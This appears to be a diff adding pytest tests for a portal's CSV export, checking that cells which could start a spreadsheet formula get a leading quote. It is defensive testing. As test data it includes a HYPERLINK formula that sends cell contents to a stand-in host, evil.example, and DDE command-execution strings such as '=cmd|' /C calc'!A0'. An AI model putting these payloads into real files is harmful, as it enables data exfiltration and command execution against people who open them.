@@ -1,0 +1,57 @@
+"""Exports are safe to open in a spreadsheet: no cell a user typed can become a formula."""
+
+import csv
+import io
+
+import pytest
+
+from harmony_portal.services import admin_queries, authentication, role_queries
+from harmony_portal.services.csv_export import safe_cell, to_csv
+from harmony_portal.services.errors import Invalid
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Click for your badge")'
+
+
+def _cells(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text)))
+
+
+@pytest.mark.parametrize("value", [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1",
+                                   "\r=1+1"])
+def test_a_cell_that_could_start_a_formula_is_quoted(value):
+    assert safe_cell(value) == "'" + value
+
+
+@pytest.mark.parametrize(("value", "expected"), [
+    ("Pamela", "Pamela"), ("so.one@example.org", "so.one@example.org"), ("O'Brien", "O'Brien"),
+    ("2026-11-18T18:00:00+00:00", "2026-11-18T18:00:00+00:00"), (42, "42"), (None, ""), ("", ""),
+    ("a=b", "a=b"),
+])
+def test_ordinary_values_are_left_alone(value, expected):
+    assert safe_cell(value) == expected
+
+
+def test_to_csv_neutralises_header_and_rows():
+    rows = _cells(to_csv(["=Name"], [[HYPERLINK], ["Ann"]]))
+    assert rows == [["'=Name"], ["'" + HYPERLINK], ["Ann"]]
+
+
+def test_user_lookup_export_neutralises_names_people_typed(session, make):
+    org = make.org(session, "A1", "Alpha Care")
+    official = make.user(session, "so.one")
+    make.grant(session, official, org)
+    attacker = make.user(session, "provider.x", first_name=HYPERLINK, last_name="-2+3")
+    make.grant(session, attacker, org, "Staff")
+    rows = _cells(role_queries.export_csv(session, official, "A1"))
+    row = next(r for r in rows if r[1] == "provider.x")
+    assert row[2] == "'" + HYPERLINK and row[3] == "'-2+3"
+    for cell in (c for r in rows for c in r):
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def test_audit_export_neutralises_a_typed_user_id(session, make):
+    admin = make.user(session, "desk", is_admin=True)
+    with pytest.raises(Invalid):
+        authentication.check_password(session, "=cmd|' /C calc'!A0", "wrong password")
+    rows = _cells(admin_queries.audit_csv(session, admin))
+    assert "'=cmd|' /C calc'!A0" in [r[6] for r in rows]
